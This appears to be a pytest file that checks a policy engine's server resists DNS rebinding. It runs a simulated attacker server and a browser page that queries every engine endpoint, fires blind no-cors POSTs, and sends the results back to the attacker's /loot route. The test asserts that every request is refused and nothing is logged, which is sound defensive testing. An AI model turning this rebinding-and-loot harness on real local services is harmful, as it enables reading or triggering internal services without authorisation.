"""A page in a real browser whose name is rebound to this machine, and one of another site: they ask, and nothing is
decided, spent or reported. Our own page works."""

from __future__ import annotations

import json
import socket
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from policyengine.audit import read_records
from tests.chromium import REBOUND, Chromium
from tests.server.processes import started
from tests.server.test_log import SERVE

POLICY = """language 1
package shop
anyone { may GET /health, POST /pay }
rate "few" per request.host on POST /pay { 2/1h }
"""
ASK = json.dumps({"request": {"method": "GET", "path": "/health"}})
REPORT = json.dumps({"decision": "01HZZZZZZZZZZZZZZZZZZZZZZZ", "status": 200})
AUTHZEN = json.dumps(
    {"subject": {"type": "user", "id": "a"}, "action": {"name": "x"}, "resource": {"type": "x", "id": "y"}}
)
GATEWAY = {"x-forwarded-method": "GET", "x-forwarded-uri": "/health", "x-envoy-internal": "true"}
# A page that asks everything it can, and brings home what came back.
PAGE = """<!doctype html><p id="done"></p><script>
(async () => {
  const loot = {};
  for (const [url, how] of ASKS) {
    try {
      const answer = await fetch(url, how);
      loot[url] = answer.type === "opaque" ? "opaque" : answer.status;
    } catch (error) { loot[url] = "failed"; }
  }
  await fetch("/loot", {method: "POST", body: JSON.stringify(loot)});
  document.getElementById("done").textContent = "done";
})();
</script>"""


def post(body: str) -> dict[str, object]:
    return {"method": "POST", "headers": {"content-type": "application/json"}, "body": body}


ASKS = [
    ("/decide", post(ASK)),
    ("/evaluate", post(ASK)),
    ("/explain", post(ASK)),
    ("/decide/batch", post('{"requests": [' + ASK + "]}")),
    ("/events", post(REPORT)),
    ("/access/v1/evaluation", post(AUTHZEN)),
    ("/forward-auth", {"headers": GATEWAY}),
    ("/forward-auth/nginx", {"headers": GATEWAY}),
    ("/envoy/health", {"headers": GATEWAY}),
    ("/metrics", {}),
    ("/healthz", {}),
    ("/readyz", {}),
    ("/docs", {}),
    ("/openapi.json", {}),
    ("/.well-known/authzen-configuration", {}),
    ("/nothing", {}),
]
# What a page may send to another site without asking first.
BLIND = [
    ("/envoy/pay", {"mode": "no-cors", "method": "POST"}),
    ("/envoy/health", {"mode": "no-cors"}),
    ("/decide", {"mode": "no-cors", "method": "POST", "body": ASK}),
    ("/forward-auth", {"mode": "no-cors"}),
]


class Rebound(socketserver.StreamRequestHandler):
    """The attacker's server: its page, what that brings home, and for all else, as the name is another's by then, the
    engine's answer."""

    server: Attacker

    def handle(self) -> None:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            line = self.rfile.readline()
            if not line:
                return
            head += line
        if head.startswith(b"GET /page"):
            self.answer(self.server.page.encode())
        elif head.startswith(b"POST /loot"):
            length = int(head.lower().partition(b"content-length:")[2].split()[0])
            self.server.loot = json.loads(self.rfile.read(length))
            self.answer(b"")
        else:
            self.hand_on(head)

    def answer(self, page: bytes) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n")
        self.wfile.write(b"content-length: %d\r\n\r\n%b" % (len(page), page))

    def hand_on(self, head: bytes) -> None:
        with socket.create_connection(("127.0.0.1", self.server.engine)) as engine:
            threading.Thread(target=piped, args=(engine, self.connection), daemon=True).start()
            engine.sendall(head.replace(b"keep-alive", b"close"))  # what comes next may be ours
            while data := self.rfile.read1():
                engine.sendall(data)


def piped(source: socket.socket, sink: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(65_536):
            sink.sendall(data)


class Attacker(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, engine: int) -> None:
        super().__init__(("127.0.0.1", 0), Rebound)
        self.engine, self.page = engine, ""
        self.loot: dict[str, object] = {}
        self.port: int = self.server_address[1]


@contextmanager
def attacker(engine: int) -> Iterator[Attacker]:
    with Attacker(engine) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("log") / "decisions.jsonl"


@pytest.fixture(scope="module")
def port(tmp_path_factory: pytest.TempPathFactory, log: Path) -> Iterator[int]:
    policy = tmp_path_factory.mktemp("policy") / "shop.policy"
    policy.write_text(POLICY)
    with started(SERVE, "serve", str(policy), "--port", "0", "--format", "json", "--log", str(log)) as (line, _):
        yield int(json.loads(line)["listening"].rpartition(":")[2])


def test_a_dns_rebinding_page_reads_nothing_and_triggers_no_decision(port: int, log: Path, browser: Chromium) -> None:
    engine = f"http://127.0.0.1:{port}"
    with attacker(port) as server:
        asks = [*ASKS, *((engine + path, how) for path, how in BLIND)]
        server.page = PAGE.replace("ASKS", json.dumps(asks))
        browser.open(f"http://{REBOUND}:{server.port}/page")
        browser.until("document.getElementById('done').textContent === 'done'")
    rebound, blind = ({url: server.loot[url] for url in server.loot if url.startswith(of)} for of in ("/", "http"))
    assert rebound == {path: 403 for path, _ in ASKS}
    assert list(blind.values()) == ["opaque"] * len(
        BLIND
    )  # it was sent, under our own name, and nobody tells the page more
    assert list(read_records(log)) == []


@pytest.mark.deep
def test_the_docs_page_opens_in_a_browser(port: int, browser: Chromium) -> None:
    browser.open(f"http://127.0.0.1:{port}/docs")
    browser.until("document.body.innerHTML.includes('POST /decide')")
